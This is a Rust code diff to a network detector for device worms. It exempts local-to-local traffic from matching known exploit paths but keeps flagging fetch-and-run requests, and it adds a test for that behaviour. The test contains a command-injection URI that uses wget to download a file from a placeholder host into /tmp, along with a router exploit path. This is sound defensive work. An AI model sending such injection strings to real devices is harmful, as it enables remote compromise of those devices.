@@ -112,9 +112,11 @@ fn contains(text: &str, lower: &str) -> bool {
         || text.as_bytes().windows(lower.len()).any(|part| part.eq_ignore_ascii_case(lower.as_bytes()))
 }
 
-/// Whether a request is one that only exploits of devices send.
-fn is_exploit(uri: &str) -> bool {
-    let known = EXPLOITS.iter().any(|(path, other)| contains(uri, path) && contains(uri, other));
+/// Whether a request is one that only exploits of devices send. Between our own hosts a path alone is none: programs of ours may manage
+/// their devices and routers by it.
+fn is_exploit(uri: &str, is_inside: bool) -> bool {
+    let known =
+        !is_inside && EXPLOITS.iter().any(|(path, other)| contains(uri, path) && contains(uri, other));
     let fetches =
         || FETCHES.iter().any(|word| contains(uri, word)) && RUNS.iter().any(|word| contains(uri, word));
     known || fetches()
@@ -198,7 +200,9 @@ impl Detector for DeviceWorm {
             {
                 self.on_flow(cx, flow);
             }
-            Event::Http(http) if is_exploit(&http.uri) => self.on_http(cx, http),
+            Event::Http(http) if is_exploit(&http.uri, cx.facts().src_local && cx.facts().dst_local) => {
+                self.on_http(cx, http);
+            }
             _ => {}
         }
     }
@@ -262,6 +266,17 @@ mod tests {
             assert_eq!(levels(&asked(1, uri)), ["high 0.8"], "{uri}");
             assert_eq!(levels(&asked(5, uri)), ["high 0.8", "critical 0.95"], "{uri}");
         }
+    }
+
+    #[test]
+    fn own_devices_may_be_managed_and_still_not_be_made_to_fetch_programs() {
+        let asked = |uri: &str| {
+            let mut bench = bench(DeviceWorm::default());
+            let request = |n: u8| Event::Http(Box::new(http(&format!("192.168.1.{n}"), "", uri, 0)));
+            (1..9).flat_map(|n| bench.feed(&request(n))).count()
+        };
+        assert_eq!(asked("/wanipcn.xml"), 0);
+        assert_eq!(asked("/x?y=;wget%20http://203.0.113.9/a%20-O%20/tmp/a"), 2);
     }
 
     #[test]
